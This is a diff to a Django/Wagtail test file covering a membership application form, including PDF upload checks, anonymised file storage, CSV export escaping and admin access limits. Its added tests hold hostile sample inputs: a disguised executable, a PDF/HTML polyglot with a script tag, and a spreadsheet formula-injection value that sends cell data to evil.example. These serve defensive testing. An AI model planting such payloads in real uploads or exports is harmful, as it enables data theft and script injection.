@@ -1,3 +1,7 @@
+import csv
+import io
+import re
+
 import pytest
 from bs4 import BeautifulSoup
 from django.core import mail
@@ -7,7 +11,9 @@ from wagtail.contrib.forms.models import FormSubmission
 from wagtail.documents.models import Document
 from wagtail.models import Site
 
+from editorial.roles import setup_roles
 from involved.models import SecretariatSettings
+from tests.editorial.factories import UserFactory
 
 from .factories import JoinFormPageFactory
 
@@ -15,6 +21,8 @@ pytestmark = pytest.mark.django_db
 
 URL = "/en/get-involved/join/"
 PDF = b"%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n"
+EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64
+POLYGLOT = b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n"
 
 
 @pytest.fixture
@@ -64,7 +72,7 @@ def test_the_form_page_is_private_to_the_visitor(client, join_page):
 
 
 def test_a_valid_application_is_stored_and_e_mailed_with_its_declaration(client, join_page):
-    declaration = SimpleUploadedFile("declaration.pdf", PDF, content_type="application/pdf")
+    declaration = SimpleUploadedFile("Awa Diop - lettre.pdf", PDF, content_type="application/pdf")
     response = client.post(URL, application(declaration=declaration))
 
     assert response.status_code == 200
@@ -79,6 +87,8 @@ def test_a_valid_application_is_stored_and_e_mailed_with_its_declaration(client,
     assert data["consent"] == "Yes"
     document = Document.objects.get()
     assert data["declaration"] == document.url
+    # Stored under a name that says nothing of the applicant, in a folder nobody can guess.
+    assert re.fullmatch(r"documents/[0-9a-f]{32}/declaration-of-intent\.pdf", document.file.name)
     assert document.collection.name == "Declarations of intent"
     assert document.collection.get_view_restrictions().exists()
 
@@ -88,7 +98,7 @@ def test_a_valid_application_is_stored_and_e_mailed_with_its_declaration(client,
     assert message.subject == "New application"
     assert "Contact person: Awa Diop" in message.body
     assert "Commitment statement: We will train 200 farmers in agroforestry." in message.body
-    assert message.attachments == [("declaration.pdf", PDF, "application/pdf")]
+    assert message.attachments == [("declaration-of-intent.pdf", PDF, "application/pdf")]
 
 
 def test_the_confirmation_and_the_stored_labels_in_french(client, join_page, fr, translate):
@@ -129,6 +139,11 @@ def test_a_file_that_is_not_a_pdf_is_rejected(client, join_page):
     response = client.post(URL, application(declaration=renamed))
     assert error_for(response, "declaration") == "Please choose a PDF file."
     assert kept_values(response)["organisation"] == "Sols Vivants"
+
+    for content in (EXE, POLYGLOT):
+        disguised = SimpleUploadedFile("declaration.pdf", content, content_type="application/pdf")
+        response = client.post(URL, application(declaration=disguised))
+        assert error_for(response, "declaration") == "Please choose a PDF file."
 
     text = SimpleUploadedFile("declaration.txt", PDF, content_type="text/plain")
     response = client.post(URL, application(declaration=text))
@@ -188,6 +203,40 @@ def test_the_secretariat_reads_and_exports_submissions_in_the_admin(
     assert header.startswith("Submission date,Organisation,College,Country,Contact person")
     assert "Senegal (SN)" in row
     assert admin_client.get(f"/admin/pages/{join_page.pk}/edit/").status_code == 200
+
+
+def test_the_submissions_export_shows_formulas_as_text(client, admin_client, join_page):
+    formula = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
+    client.post(URL, application(organisation=formula, contact_person="@SUM(1+1)"))
+    export = admin_client.get(f"/admin/forms/submissions/{join_page.pk}/?export=csv")
+    (row,) = list(csv.DictReader(io.StringIO(export.getvalue().decode())))
+    assert row["Organisation"] == "'" + formula
+    assert row["Contact person"] == "'@SUM(1+1)"
+
+
+def test_only_the_secretariat_sees_the_applications(client, join_page, fr, translate):
+    setup_roles(log=lambda message: None)
+    french_page = translate(join_page, fr, {"Join the Initiative": "Rejoindre l’Initiative"})
+    client.post(URL, application())
+    client.post("/fr/get-involved/join/", application(organisation="Sols de France"))
+    for page in (join_page, french_page):
+        for url in (
+            f"/admin/forms/submissions/{page.pk}/",
+            f"/admin/forms/submissions/{page.pk}/?export=csv",
+            f"/admin/forms/submissions/{page.pk}/delete/",
+        ):
+            for group in ("Editors", "French translators", "Spanish translators"):
+                client.force_login(UserFactory(groups=[group]))
+                refused = client.get(url)
+                # Wagtail's admin answers "permission denied" by sending back to its home.
+                assert (refused.status_code, refused["Location"]) == (302, "/admin/"), (group, url)
+            client.force_login(UserFactory(groups=["Moderators"]))
+            assert client.get(url).status_code == 200, url
+    # Nor is the Forms menu offered to them.
+    client.force_login(UserFactory(groups=["Editors"]))
+    assert "/admin/forms/" not in client.get("/admin/").content.decode()
+    client.force_login(UserFactory(groups=["Moderators"]))
+    assert "/admin/forms/" in client.get("/admin/").content.decode()
 
 
 def test_without_a_to_address_the_secretariat_settings_address_gets_it(client, join_page):
